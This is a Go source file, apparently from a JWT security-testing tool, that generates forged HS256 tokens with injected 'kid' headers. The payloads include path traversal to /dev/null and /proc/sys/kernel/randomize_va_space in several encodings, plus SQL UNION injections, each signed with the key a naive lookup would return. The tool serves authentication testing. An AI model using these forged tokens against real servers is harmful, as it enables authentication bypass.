package forge

import "fmt"

// kidPayload is one kid-injection variant: the kid a naive key lookup
// turns into a key, and the key that lookup yields.
type kidPayload struct {
	slug   string
	kid    any // a string, or nil for "kid removed"
	key    string
	reason string // what the lookup does with the kid
}

// randomizeVASpace is the content of /proc/sys/kernel/randomize_va_space on
// a default Linux host (full address-space randomisation).
const randomizeVASpace = "2\n"

func kidPayloads() []kidPayload {
	const up = "../../../../../../"
	const upEnc = "..%2F..%2F..%2F..%2F..%2F..%2F"
	const upDouble = "..%252F..%252F..%252F..%252F..%252F..%252F"
	return []kidPayload{
		{"traversal-dev-null", up + "dev/null", "", "a relative path to /dev/null, read as an empty key"},
		{"dev-null", "/dev/null", "", "/dev/null, read as an empty key"},
		{"traversal-dev-null-url-encoded", upEnc + "dev%2Fnull", "", "a URL-encoded relative path to /dev/null"},
		{"traversal-dev-null-double-encoded", upDouble + "dev%252Fnull", "", "a doubly URL-encoded relative path to /dev/null"},
		{"traversal-dev-null-filter-bypass", "....//....//....//....//....//....//dev/null", "", "a relative path to /dev/null that survives one pass of stripping \"../\""},
		{"randomize-va-space", "/proc/sys/kernel/randomize_va_space", randomizeVASpace, "/proc/sys/kernel/randomize_va_space, read as the key \"2\\n\""},
		{"randomize-va-space-trimmed", "/proc/sys/kernel/randomize_va_space", "2", "/proc/sys/kernel/randomize_va_space, read and trimmed to the key \"2\""},
		{"traversal-randomize-va-space", up + "proc/sys/kernel/randomize_va_space", randomizeVASpace, "a relative path to /proc/sys/kernel/randomize_va_space, read as \"2\\n\""},
		{"traversal-randomize-va-space-url-encoded", upEnc + "proc%2Fsys%2Fkernel%2Frandomize_va_space", randomizeVASpace, "a URL-encoded relative path to randomize_va_space"},
		{"sql-quoted", "x' UNION SELECT '1';--", "1", "a quoted SQL context selecting the key \"1\""},
		{"sql-quoted-comment", "x' UNION SELECT 'k' --", "k", "a quoted SQL context selecting the key \"k\" (comment with a space, as MySQL wants)"},
		{"sql-unquoted", "0 UNION SELECT 'k'", "k", "an unquoted numeric SQL context selecting the key \"k\""},
		{"blank", "", "", "an empty kid, looked up as an empty key"},
		{"absent", nil, "", "no kid at all, a lookup that falls back to an empty key"},
	}
}

// KIDInjection returns HS256 variants whose kid points a naive key lookup at
// a predictable key, each signed with the key that file or query yields:
// path traversal to /dev/null (an empty key) in plain, URL-encoded, doubly
// encoded and filter-bypassing forms; /proc/sys/kernel/randomize_va_space
// ("2\n" on default Linux hosts, "2" when the server trims); quoted,
// commented and unquoted numeric SQL injections selecting a constant; and a
// blank and an absent kid with an empty key. No timing or command-injection
// payloads: their effect is not observable through a verdict.
func (f *Forger) KIDInjection() []Forged {
	var out []Forged
	for _, p := range kidPayloads() {
		kid := p.kid
		extra := map[string]any{"kid": kid}
		label := fmt.Sprintf("kid %q, HS256 with the key %q: %s", kid, p.key, p.reason)
		if kid == nil {
			label = fmt.Sprintf("kid removed, HS256 with the key %q: %s", p.key, p.reason)
		}
		// A nil kid deletes the member (withHeaderMap).
		out = append(out, f.hmacVariant("jwt.kid-injection/"+p.slug, "HS256", []byte(p.key), extra, label))
	}
	return out
}
